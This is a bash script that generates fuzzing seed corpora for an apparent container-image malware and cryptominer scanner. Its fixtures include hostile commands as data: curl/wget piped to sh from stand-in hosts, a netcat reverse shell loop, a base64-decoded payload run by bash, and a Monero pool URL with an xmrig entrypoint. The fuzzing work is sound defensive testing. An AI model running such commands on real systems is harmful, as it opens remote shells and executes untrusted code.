#!/usr/bin/env bash
# Seed corpora for every fuzz target, generated (never committed): layer tars made here
# with whiteouts, links and every compression; the sample OCI layouts `make demo` builds
# (examples/make_samples.rs), as layers, as archives and as parts; and ../shared/
# (yaral-corpus, webhook-fixtures, runtime-samples, intel). Idempotent: re-running
# replaces the seeds it writes (files named seed-*), leaving what the fuzzers found.
# Usage: fuzz/seed.sh [CORPUS_DIR] (default fuzz/corpus).
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
root=$(cd "$here/.." && pwd)
shared=$(cd "$root/../shared" 2>/dev/null && pwd || true)
corpus=${1:-$here/corpus}
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
SEP=$'\n--8<--\n'

put() { # put TARGET NAME < bytes
  mkdir -p "$corpus/$1"
  cat >"$corpus/$1/seed-$2"
}
with_byte() { # with_byte N FILE: a selector byte, then the file
  printf "\\x$(printf %02x "$1")"
  cat "$2"
}

# --- layers made here: files, dirs, symlinks, hard links, whiteouts, opaque dirs -------
t=$work/tree
mkdir -p "$t/l1/usr/bin" "$t/l1/etc/cron.d" "$t/l1/opt/app" "$t/l2/usr/bin" "$t/l2/opt/app"
printf '#!/bin/sh\ncurl -fsSL http://x.example/a.sh | sh\n' >"$t/l1/usr/bin/run.sh"
printf '*/5 * * * * root wget -q -O- http://x.example/m | bash\n' >"$t/l1/etc/cron.d/job"
printf 'url = "stratum+tcp://pool.minexmr.com:4444"\n' >"$t/l1/opt/app/config.json"
ln -s ../../opt/app/config.json "$t/l1/usr/bin/cfg"
ln "$t/l1/usr/bin/run.sh" "$t/l1/usr/bin/run2.sh"
: >"$t/l2/usr/bin/.wh.run.sh"
: >"$t/l2/opt/app/.wh..wh..opq"
printf 'replaced\n' >"$t/l2/opt/app/new"
chmod 755 "$t/l1/usr/bin/run.sh"
for l in l1 l2; do
  tar --format=gnu -C "$t/$l" -cf "$work/$l.tar" .
  tar --format=pax -C "$t/$l" -cf "$work/$l.pax.tar" .
  gzip -9nc "$work/$l.tar" >"$work/$l.tar.gz"
  zstd -q -19 -c "$work/$l.tar" >"$work/$l.tar.zst"
done
for f in l1.tar l1.pax.tar l1.tar.gz l1.tar.zst l2.tar; do put layer_walk "$f" <"$work/$f"; done
{ cat "$work/l1.tar.gz"; printf '%s' "$SEP"; cat "$work/l2.tar.zst"; } | put layer_walk two-layers
{ cat "$work/l1.pax.tar"; printf '%s' "$SEP"; cat "$work/l2.tar"; printf '%s' "$SEP"; cat "$work/l1.tar.gz"; } |
  put layer_walk three-layers

# --- nested archives: tar, tgz, zip of the same tree --------------------------------
(cd "$t/l1" && zip -qr "$work/l1.zip" .)
with_byte 0 "$work/l1.tar" | put nested_archive tar
with_byte 1 "$work/l1.tar.gz" | put nested_archive tgz
with_byte 2 "$work/l1.zip" | put nested_archive zip
tar -C "$work" -czf "$work/outer.tgz" l1.tar.gz l1.zip
with_byte 3 "$work/outer.tgz" | put nested_archive nested-twice

# --- the sample images (examples/make_samples.rs), as layers and as archives ---------
samples=$work/samples
(cd "$root" && cargo run -q --example make_samples -- "$samples") >/dev/null
for img in clean malicious; do
  d=$samples/$img
  for b in "$d"/blobs/sha256/*; do
    h=$(basename "$b")
    case $(head -c 1 "$b" | od -An -c | tr -d ' ') in
      '{') with_byte 4 "$b" | put manifests "$img-json-$h" ;;   # a manifest, index or config
      *) put layer_walk "$img-$h" <"$b" ;;
    esac
  done
  tar -C "$d" -cf "$work/$img.oci.tar" .
  with_byte 1 "$work/$img.oci.tar" | put manifests "$img-oci-archive"
  if skopeo copy -q "oci:$d" "docker-archive:$work/$img.docker.tar:fuzz/$img:1" 2>/dev/null; then
    with_byte 0 "$work/$img.docker.tar" | put manifests "$img-docker-archive"
  fi
done
# Parts with @Hn placeholders (the target swaps in the digest of part n).
cfg='{"architecture":"amd64","os":"linux","config":{"Entrypoint":["/bin/sh","-c"],"Cmd":["xmrig"],"Env":["PATH=/usr/bin"]},"rootfs":{"type":"layers","diff_ids":["sha256:@H3"]},"history":[{"created_by":"RUN curl http://x | sh"}]}'
{ printf '\x02[{"Config":"p1","RepoTags":["fuzz/x:1"],"Layers":["p2"]}]%s%s%s' "$SEP" "$cfg" "$SEP"; cat "$work/l1.tar"; } |
  put manifests docker-parts
{ printf '\x03{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":[{"mediaType":"application/vnd.oci.image.manifest.v1+json","digest":"sha256:@H1","size":1,"annotations":{"org.opencontainers.image.ref.name":"1"}}]}%s' "$SEP"
  printf '{"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json","config":{"mediaType":"application/vnd.oci.image.config.v1+json","digest":"sha256:@H2","size":1},"layers":[{"mediaType":"application/vnd.oci.image.layer.v1.tar+gzip","digest":"sha256:@H3","size":1}]}%s%s%s' "$SEP" "$cfg" "$SEP"
  cat "$work/l1.tar.gz"; } | put manifests oci-parts

# --- binaries ---------------------------------------------------------------------
for b in /usr/bin/true /usr/lib/x86_64-linux-gnu/libdl.so.2; do
  [ -f "$b" ] && put binary "$(basename "$b")" <"$b"
done
printf 'MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00' | put binary mz-stub
printf '\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00' | put binary macho-stub

# --- shell, references, ignore files ----------------------------------------------
i=0
for s in 'curl -fsSL http://x.example/a.sh | sh' \
  "apt-get update && apt-get install -y nginx; rm -rf /var/lib/apt/lists/*" \
  '/bin/sh -c #(nop)  CMD ["nginx" "-g" "daemon off;"]' \
  "|/bin/sh -c echo \$(printf '%s' \"a b\") 'c'\"d\" > /tmp/x 2>&1 &" \
  'bash -c "while true; do nc 10.0.0.1 4444 -e /bin/sh; done"' \
  'RUN wget -qO- http://x/m | base64 -d | bash'; do
  printf '%s' "$s" | put shell "hand-$i"; i=$((i + 1))
done
for f in "$root"/scripts/*.sh; do put shell "$(basename "$f")" <"$f"; done
i=0
for r in nginx nginx:1.25 library/nginx@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef \
  localhost:5000/a/b/c:tag ghcr.io/o/r:v1 docker-archive:/tmp/x.tar:nginx:1 oci-archive:/x.tar@sha256:00 \
  oci-dir:./layout '[::1]:5000/x' 'docker.io/library/ubuntu:22.04'; do
  printf '%s' "$r" | put reference "hand-$i"; i=$((i + 1))
done
if [ -n "$shared" ] && [ -f "$shared/intel/popular-images.txt" ]; then
  grep -v '^#' "$shared/intel/popular-images.txt" | head -100 | while read -r r; do
    [ -n "$r" ] && printf '%s' "$r" | put reference "popular-$(printf '%s' "$r" | md5sum | cut -c1-12)"
  done
fi
printf -- '- id: IMG-POOL-ENDPOINT\n  path: "usr/share/doc/**"\n  reason: docs list pools\n- id: IMG-WALLET\n  image: "docker.io/library/*"\n  reason: test wallet\n  expires: 2020-01-01\n' |
  put ignore rules
printf -- '- id: "*"\n  signature: pool-domain:minexmr.com\n  reason: x\n  expires: 2099-12-31\n' | put ignore star

# --- signatures: each embedded file behind its selector byte -----------------------
n=0
for f in miner-names pools strings behaviour wallets known-bad-hashes; do
  with_byte $n "$root/signatures/$f.toml" | put signatures "$f"; n=$((n + 1))
done

# --- YARA-L rules, UDM events, AdmissionReviews, log inputs (../shared) -------------
for f in "$root"/signatures/rules/*.yaral; do put yaral "$(basename "$f")" <"$f"; done
if [ -n "$shared" ]; then
  find "$shared/yaral-corpus/rules" -name '*.yaral' | sort | while read -r f; do
    put yaral "$(printf '%s' "$f" | md5sum | cut -c1-12)" <"$f"
  done
  find "$shared/webhook-fixtures" -name '*.json' | sort | while read -r f; do
    put admission "$(basename "$(dirname "$f")")-$(basename "$f")" <"$f"
  done
  for f in "$shared"/runtime-samples/chronicle-udm/*; do
    put udm_eval "$(basename "$f" | cut -c1-60)" <"$f"
    # One event per line, as the evaluator target reads them.
    python3 -c 'import json,sys
try: v=json.load(open(sys.argv[1]))
except Exception: sys.exit(0)
v=v if isinstance(v,list) else v.get("events",[v]) if isinstance(v,dict) else []
print("\n".join(json.dumps(e) for e in v))' "$f" | put udm_eval "lines-$(basename "$f" | cut -c1-50)"
  done
  # logs: selector = index in fuzz_targets/logs.rs FORMATS.
  declare -A sel=([auditd]=5 [falco-json]=3 [tetragon]=4 [cloudtrail]=6 [gcp-audit]=7 [azure-activity]=8 [k8s-audit]=9 [chronicle-udm]=1)
  for d in "${!sel[@]}"; do
    for f in "$shared/runtime-samples/$d"/*; do
      [ -f "$f" ] || continue
      with_byte "${sel[$d]}" "$f" | put logs "$d-$(basename "$f" | cut -c1-50)"
      with_byte 0 "$f" | put logs "auto-$d-$(basename "$f" | cut -c1-50)"
    done
  done
fi
for t in "$corpus"/*; do
  echo "$(basename "$t"): $(ls "$t" | wc -l) inputs"
done
